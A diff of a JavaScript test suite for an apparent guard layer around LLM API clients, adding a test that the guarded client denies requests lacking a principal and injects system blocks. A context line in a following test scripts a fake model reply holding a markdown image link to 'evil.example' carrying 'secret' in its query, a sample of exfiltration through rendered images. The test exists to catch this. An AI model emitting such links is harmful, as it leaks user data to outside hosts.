@@ -104,6 +104,20 @@ for (const [name, { make, model, paths, fetchGuards }] of Object.entries(backEnd
     assert.deepEqual(rows.map(({ user, outcome, model: used, outputTokens }) => [user, outcome, used, outputTokens]), [['person-1', 'answered', model, answer.usage.output_tokens]]);
   });
 
+  test(`${name}: guard.client makes a client of the same back end, guarded`, async () => {
+    const { guard, rows } = bench();
+    const given = make({ maxRetries: 0 });
+    const client = guard.client(given);
+    assert.equal(client.constructor, given.constructor);
+    await assert.rejects(async () => client.messages.create(params), denies('principal_missing'));
+    assert.equal(front.requests.length, 0);
+    await guard.run(person, () => client.messages.create({ ...params, system: 'Be kind.' }));
+    assert.match(front.requests[0]?.path ?? '', paths[0]);
+    assert.equal(systemBlocks(front.requests[0]), 2);
+    await guard.settled();
+    assert.deepEqual(rows.map(({ outcome }) => outcome), ['denied', 'answered']);
+  });
+
   test(`${name}: a stream passes through the guards of answers`, async () => {
     const { guard, rows } = bench();
     fake.script({ type: 'text', text: 'Look: ![picture](https://evil.example/a.png?q=secret) and that is all.', chunkSize: 5 });
